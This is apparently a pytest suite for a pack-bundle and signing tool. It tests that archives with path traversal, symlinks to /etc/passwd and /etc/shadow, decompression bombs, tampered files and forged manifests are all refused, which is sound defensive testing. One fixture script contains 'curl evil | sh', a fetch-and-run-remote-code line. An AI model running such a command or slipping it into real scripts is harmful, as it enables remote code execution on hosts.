"""Pack bundles (agent/bundle.py, agent/signing.py): built, signed, verified; and every
way a hostile or broken bundle could try to get past a host."""

from __future__ import annotations

import dataclasses
import gzip
import hashlib
import io
import json
import os
import stat
import tarfile
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agent import __version__, bundle
from agent.bundle import BundleError
from agent.cli import main
from agent.signing import (
    KeyFileError,
    PublicKey,
    generate,
    load_private,
    load_public,
    sign,
    trusted_keys,
)

PACK = """\
[pack]
name = "shop"
version = "1.2.0"
owner = "payments"

[[pattern]]
id = "stuck"
match = '^queue stuck (?P<q>\\w+)$'
key = "{q}"

[pattern.fields]
q = { type = "word" }

[pattern.remedy]
run = ["scripts/fix.sh", "{q}"]

[[pattern.example]]
line = "queue stuck q1"
fields = { q = "q1" }
"""


def make_pack(root: Path, text: str = PACK) -> Path:
    folder = root / "shop"
    (folder / "scripts").mkdir(parents=True)
    (folder / "pack.toml").write_text(text)
    script = folder / "scripts" / "fix.sh"
    script.write_text("#!/bin/sh\nexit 0\n")
    script.chmod(0o755)
    return folder


def built(root: Path, min_agent: str = __version__) -> bytes:
    return bundle.build(make_pack(root), "shop", "1.2.0", "payments", min_agent)


def keypair(root: Path, owner: str = "payments", name: str = "team") -> tuple[object, PublicKey]:
    private, public = generate(owner, root / name)
    return load_private(private), load_public(public)[0]


def signed_bundle(root: Path) -> tuple[bytes, PublicKey]:
    key, public = keypair(root)
    found = bundle.read(built(root), "b")
    return bundle.signed(found, sign(key, found.manifest_bytes)), public


def tar_of(members: list[tuple[str, bytes] | tarfile.TarInfo]) -> bytes:
    """A bundle-shaped archive with exactly these members (no checks of ours)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for member in members:
            if isinstance(member, tarfile.TarInfo):
                tar.addfile(member)
                continue
            name, data = member
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def manifest_for(listed: dict[str, bytes], **overrides: object) -> bytes:
    body: dict[str, object] = {
        "format": bundle.FORMAT,
        "name": "shop",
        "version": "1.2.0",
        "owner": "payments",
        "min_agent": "0.1.0",
        "files": {
            path: {"sha256": hashlib.sha256(d).hexdigest(), "size": len(d), "executable": False}
            for path, d in listed.items()
        },
    }
    body.update(overrides)
    return json.dumps(body).encode()


def refused(data: bytes, *words: str) -> None:
    with pytest.raises(BundleError) as caught:
        bundle.read(data, "hostile.lmpack")
    message = str(caught.value)
    assert message.startswith("hostile.lmpack: ")
    for word in words:
        assert word in message, message


# building and reading


def test_a_built_bundle_reads_back_every_file_and_its_mode(tmp_path):
    found = bundle.read(built(tmp_path), "b")
    assert found.signature is None
    assert set(found.files) == {"pack.toml", "scripts/fix.sh"}
    assert {f.path: f.executable for f in found.manifest.files} == {
        "pack.toml": False,
        "scripts/fix.sh": True,
    }
    assert (found.manifest.name, found.manifest.version, found.manifest.owner) == (
        "shop",
        "1.2.0",
        "payments",
    )
    dest = tmp_path / "out"
    bundle.unpack(found, dest)
    assert (dest / "pack.toml").read_text() == PACK
    assert stat.S_IMODE((dest / "scripts" / "fix.sh").stat().st_mode) == 0o755
    assert stat.S_IMODE((dest / "pack.toml").stat().st_mode) == 0o644
    assert stat.S_IMODE((dest / "scripts").stat().st_mode) == 0o755


def test_the_same_pack_gives_the_same_bytes(tmp_path, monkeypatch):
    first = built(tmp_path / "a")
    later = time.time() + 86_400  # a day later, by the clock and by the files' times
    monkeypatch.setattr(time, "time", lambda: later)
    folder = make_pack(tmp_path / "b")
    for path in folder.rglob("*"):
        os.utime(path, (later, later))
    assert bundle.build(folder, "shop", "1.2.0", "payments", __version__) == first


def test_build_leaves_out_hidden_files_and_caches_and_refuses_links(tmp_path):
    folder = make_pack(tmp_path)
    (folder / ".git").mkdir()
    (folder / ".git" / "HEAD").write_text("x")
    (folder / "__pycache__").mkdir()
    (folder / "__pycache__" / "m.pyc").write_bytes(b"x")
    (folder / ".env").write_text("SECRET=1")
    found = bundle.read(bundle.build(folder, "shop", "1.2.0", "payments", "0.1.0"), "b")
    assert set(found.files) == {"pack.toml", "scripts/fix.sh"}
    (folder / "scripts" / "passwd").symlink_to("/etc/passwd")
    with pytest.raises(BundleError, match="passwd: a symbolic link"):
        bundle.build(folder, "shop", "1.2.0", "payments", "0.1.0")


NAMES = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789_-", min_size=1, max_size=12)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    files=st.dictionaries(
        st.lists(NAMES, min_size=1, max_size=3).map("/".join),
        st.tuples(st.binary(max_size=300), st.booleans()),
        max_size=6,
    )
)
def test_any_tree_of_files_round_trips(tmp_path_factory, files):
    root = tmp_path_factory.mktemp("tree")
    folder = make_pack(root)
    written = {
        "pack.toml": (PACK.encode(), False),
        "scripts/fix.sh": (b"#!/bin/sh\nexit 0\n", True),
    }
    for path, (data, executable) in files.items():
        target = folder / path
        if any(p.is_file() for p in [target, *target.parents]) or target.is_dir():
            continue  # a file where a folder is (or the reverse): not a tree
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        target.chmod(0o755 if executable else 0o644)
        written[path] = (data, executable)
    found = bundle.read(bundle.build(folder, "shop", "1.2.0", "payments", "0.1.0"), "b")
    assert {p: (d, e) for p, d, e in _entries(found)} == written
    dest = root / "out"
    bundle.unpack(found, dest)
    for path, (data, executable) in written.items():
        assert (dest / path).read_bytes() == data
        assert bool((dest / path).stat().st_mode & 0o111) == executable


def _entries(found: bundle.Bundle) -> list[tuple[str, bytes, bool]]:
    return [(f.path, found.files[f.path], f.executable) for f in found.manifest.files]


@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(position=st.integers(min_value=0), value=st.integers(min_value=0, max_value=255))
def test_a_changed_byte_anywhere_is_refused_or_changes_nothing(tmp_path_factory, position, value):
    original, _ = signed_bundle(tmp_path_factory.mktemp("k"))
    first = bundle.read(original, "b")
    data = bytearray(original)
    data[position % len(data)] = value
    try:
        found = bundle.read(bytes(data), "b")
    except BundleError:
        return
    # what got through (a byte of gzip's header, say) is the very same pack
    assert found.manifest_bytes == first.manifest_bytes and dict(found.files) == dict(first.files)
    assert found.signature == first.signature


@settings(max_examples=100, deadline=None)
@given(data=st.binary(max_size=2000))
def test_garbage_is_refused_with_a_bundle_error(data):
    for candidate in (data, gzip.compress(data, mtime=0)):
        with pytest.raises(BundleError):
            bundle.read(candidate, "b")


# hostile archives


PACK_TOML = b'[pack]\nname = "shop"\n'


def test_links_devices_and_folders_in_the_archive_are_refused(tmp_path):
    for kind in (
        tarfile.SYMTYPE,
        tarfile.LNKTYPE,
        tarfile.CHRTYPE,
        tarfile.DIRTYPE,
        tarfile.FIFOTYPE,
    ):
        member = tarfile.TarInfo("pack/scripts/fix.sh")
        member.type = kind
        member.linkname = "/etc/shadow"
        data = tar_of(
            [
                ("manifest.json", manifest_for({"pack.toml": PACK_TOML})),
                ("pack/pack.toml", PACK_TOML),
                member,
            ]
        )
        refused(data, "'pack/scripts/fix.sh' is not a regular file")


@pytest.mark.parametrize(
    "path",
    [
        "../escape",
        "/etc/cron.d/x",
        "scripts/../../x",
        ".hidden",
        "a//b",
        "./pack.toml",
        "a\\b",
        "x\n",
    ],
)
def test_a_path_that_could_leave_the_pack_folder_is_refused(tmp_path, path):
    files = {"pack.toml": PACK_TOML, path: b"evil"}
    data = tar_of(
        [
            ("manifest.json", manifest_for(files)),
            ("pack/pack.toml", PACK_TOML),
            ("pack/" + path, b"evil"),
        ]
    )
    refused(data, "manifest.json")


def test_unlisted_missing_twice_and_tampered_files_are_refused(tmp_path):
    manifest = ("manifest.json", manifest_for({"pack.toml": PACK_TOML}))
    refused(
        tar_of([manifest, ("pack/pack.toml", PACK_TOML), ("pack/extra.sh", b"x")]),
        "extra.sh",
        "not in its manifest",
    )
    refused(
        tar_of(
            [
                ("manifest.json", manifest_for({"pack.toml": PACK_TOML, "a": b"1"})),
                ("pack/pack.toml", PACK_TOML),
            ]
        ),
        "'a' is in the manifest but not in the bundle",
    )
    refused(
        tar_of([manifest, ("pack/pack.toml", PACK_TOML), ("pack/pack.toml", PACK_TOML)]), "twice"
    )
    tampered = PACK_TOML.replace(b"shop", b"shoq")  # same size, other bytes
    refused(tar_of([manifest, ("pack/pack.toml", tampered)]), "does not match its hash")
    refused(
        tar_of([manifest, ("pack/pack.toml", PACK_TOML), ("README", b"x")]),
        "not part of a pack bundle",
    )
    refused(tar_of([("pack/pack.toml", PACK_TOML)]), "no manifest.json")


@pytest.mark.parametrize(
    "override",
    [
        {"format": "other/1"},
        {"name": "../x"},
        {"owner": ""},
        {"version": 3},
        {"min_agent": "soon"},
        {"files": {}},
        {"files": ["pack.toml"]},
        {"files": {"pack.toml": {"sha256": "00", "size": 1, "executable": False}}},
        {"files": {"pack.toml": {"sha256": "a" * 64, "size": -1, "executable": False}}},
        {"files": {"pack.toml": {"sha256": "a" * 64, "size": True, "executable": False}}},
        {"files": {"pack.toml": {"sha256": "a" * 64, "size": 1, "executable": "yes"}}},
    ],
)
def test_a_malformed_manifest_is_refused_by_name(override):
    data = tar_of(
        [
            ("manifest.json", manifest_for({"pack.toml": PACK_TOML}, **override)),
            ("pack/pack.toml", PACK_TOML),
        ]
    )
    refused(data, "manifest.json")


def test_a_member_that_claims_gigabytes_is_refused_before_its_data_is_read():
    info = tarfile.TarInfo("pack/pack.toml")
    info.size = 5 * 1024**3
    header = info.tobuf(tarfile.PAX_FORMAT)
    data = gzip.compress(header + b"\0" * 4096, mtime=0)  # the data never comes
    started = time.monotonic()
    refused(data, "too large")
    assert time.monotonic() - started < 1.0


def test_a_bundle_that_inflates_past_the_limits_is_refused_quickly():
    big = b"\0" * (bundle.MAX_FILE + 1)
    data = tar_of(
        [("manifest.json", manifest_for({"pack.toml": PACK_TOML})), ("pack/pack.toml", big)]
    )
    assert len(data) < 64 * 1024  # a few KiB that inflate to megabytes
    refused(data, "too large")
    bomb = gzip.compress(b"\0" * (bundle.MAX_INFLATED + 1), mtime=0)
    assert len(bomb) < 64 * 1024
    refused(bomb, "inflates to over")
    many = [("manifest.json", b"{}")] + [(f"pack/f{n}", b"") for n in range(bundle.MAX_FILES + 5)]
    refused(tar_of(many), f"over {bundle.MAX_FILES} files")
    refused(b"\x1f\x8b" + b"\0" * (bundle.MAX_BUNDLE + 1), "over the")


# signatures and trust


def test_a_signed_bundle_verifies_against_its_owners_key(tmp_path):
    data, public = signed_bundle(tmp_path)
    found = bundle.read(data, "b")
    assert bundle.verify(found, {public.key_id: public}, "b") == public


def test_unsigned_untrusted_or_other_teams_keys_are_refused(tmp_path):
    data, public = signed_bundle(tmp_path)
    found = bundle.read(data, "b")
    unsigned = bundle.read(built(tmp_path / "u"), "b")
    with pytest.raises(BundleError, match="is not signed"):
        bundle.verify(unsigned, {public.key_id: public}, "b")
    _, stranger = keypair(tmp_path, name="stranger")
    with pytest.raises(BundleError, match="which is not trusted here"):
        bundle.verify(found, {stranger.key_id: stranger}, "b")
    theirs = dataclasses.replace(public, owner="search")  # the right key, trusted for another team
    with pytest.raises(BundleError, match="of search, not of the pack's owner payments"):
        bundle.verify(found, {theirs.key_id: theirs}, "b")


def test_a_manifest_changed_after_signing_fails_the_signature(tmp_path):
    data, public = signed_bundle(tmp_path)
    found = bundle.read(data, "b")
    evil = b"#!/bin/sh\ncurl evil | sh\n"
    entries = tuple(
        dataclasses.replace(f, sha256=hashlib.sha256(evil).hexdigest(), size=len(evil))
        if f.path == "scripts/fix.sh"
        else f
        for f in found.manifest.files
    )
    manifest = dataclasses.replace(found.manifest, files=entries)
    forged = bundle.write(
        manifest.to_bytes(), {**found.files, "scripts/fix.sh": evil}, entries, found.signature
    )
    again = bundle.read(forged, "b")  # consistent in itself...
    with pytest.raises(BundleError, match="signature does not match the manifest"):
        bundle.verify(again, {public.key_id: public}, "b")  # ...but not what was signed


def test_a_bundle_for_a_newer_agent_is_refused(tmp_path):
    key, public = keypair(tmp_path)
    found = bundle.read(built(tmp_path / "p", min_agent="99.0"), "b")
    found = bundle.read(bundle.signed(found, sign(key, found.manifest_bytes)), "b")
    with pytest.raises(
        BundleError, match=f"needs logmend 99.0 or later \\(this is {__version__}\\)"
    ):
        bundle.verify(found, {public.key_id: public}, "b")


def test_keys_are_written_private_and_never_overwritten(tmp_path):
    private, public = generate("payments", tmp_path / "team")
    assert stat.S_IMODE(private.stat().st_mode) == 0o600
    assert public.read_text().startswith("logmend-ed25519 ") and public.read_text().endswith(
        " payments\n"
    )
    before = private.read_bytes()
    with pytest.raises(KeyFileError, match="never overwritten"):
        generate("payments", tmp_path / "team")
    assert private.read_bytes() == before
    with pytest.raises(KeyFileError, match="not a plain name"):
        generate("pay ments", tmp_path / "other")
    private.chmod(0o644)
    with pytest.raises(KeyFileError, match="readable by its owner only"):
        load_private(private)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "# only a comment\n",
        "ssh-ed25519 AAAA payments\n",
        "logmend-ed25519 !!! payments\n",
        "logmend-ed25519 " + "QUJD" + " payments\n",
        "logmend-ed25519 {key} pay/ments\n",
        "logmend-ed25519 {key}\n",
    ],
)
def test_a_bad_public_key_file_is_refused_naming_its_line(tmp_path, text):
    _, good = generate("payments", tmp_path / "k")
    key = good.read_text().split()[1]
    path = tmp_path / "bad.pub"
    path.write_text(text.format(key=key))
    with pytest.raises(KeyFileError, match=str(path)):
        load_public(path)


def test_one_key_trusted_for_two_owners_is_refused(tmp_path):
    _, public = generate("payments", tmp_path / "k")
    other = tmp_path / "other.pub"
    other.write_text(public.read_text().replace(" payments", " search"))
    with pytest.raises(KeyFileError, match="trusted for payments elsewhere, here for search"):
        trusted_keys([public, other])


# the commands


def test_build_sign_verify_by_the_commands(tmp_path, capsys):
    folder = make_pack(tmp_path)
    out = tmp_path / "shop.lmpack"
    assert main(["pack", "build", str(folder), "-o", str(out)]) == 0
    assert main(["pack", "keygen", "--owner", "payments", "-o", str(tmp_path / "pay")]) == 0
    assert main(["pack", "verify", str(out), "--trust", str(tmp_path / "pay.pub")]) == 1
    assert "is not signed" in capsys.readouterr().err
    assert main(["pack", "sign", str(out), "--key", str(tmp_path / "pay.key")]) == 0
    assert main(["pack", "verify", str(out), "--trust", str(tmp_path / "pay.pub")]) == 0
    said = capsys.readouterr().out
    assert "ok: shop 1.2.0 (owner payments), 2 file(s), 1 example(s) hold" in said
    assert main(["pack", "sign", str(out), "--key", str(tmp_path / "pay.key")]) == 0  # again
    assert bundle.read(out.read_bytes(), "b").signature is not None
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".new")]


def test_build_writes_nothing_for_a_pack_whose_examples_fail_or_that_does_not_load(
    tmp_path, capsys
):
    failing = make_pack(
        tmp_path / "a", PACK.replace('line = "queue stuck q1"', 'line = "queue fine"')
    )
    out = tmp_path / "x.lmpack"
    assert main(["pack", "build", str(failing), "-o", str(out)]) == 1
    assert "expected a match, got no match" in capsys.readouterr().err
    broken = make_pack(tmp_path / "b", PACK.replace('key = "{q}"', 'key = "{nope}"'))
    assert main(["pack", "build", str(broken), "-o", str(out)]) == 1
    assert "nope" in capsys.readouterr().err
    assert main(["pack", "build", str(tmp_path), "-o", str(out)]) == 1
    assert "no pack.toml" in capsys.readouterr().err
    assert not out.exists()


def test_verify_refuses_a_manifest_that_names_another_pack_than_its_files(tmp_path, capsys):
    """A team signs what its manifest says: the pack.toml inside must agree with it."""
    key, _ = keypair(tmp_path)
    found = bundle.read(
        bundle.build(make_pack(tmp_path / "p"), "shop", "9.9.9", "payments", "0.1.0"), "b"
    )
    out = tmp_path / "lying.lmpack"
    out.write_bytes(bundle.signed(found, sign(key, found.manifest_bytes)))
    assert main(["pack", "verify", str(out), "--trust", str(tmp_path / "team.pub")]) == 1
    err = capsys.readouterr().err
    assert "the manifest says shop 9.9.9 (owner payments), its pack.toml says shop 1.2.0" in err


def test_unpack_never_writes_through_an_existing_folder(tmp_path):
    found = bundle.read(built(tmp_path), "b")
    dest = tmp_path / "dest"
    os.symlink(tmp_path / "elsewhere", dest)
    with pytest.raises(FileExistsError):
        bundle.unpack(found, dest)
    assert not (tmp_path / "elsewhere").exists()
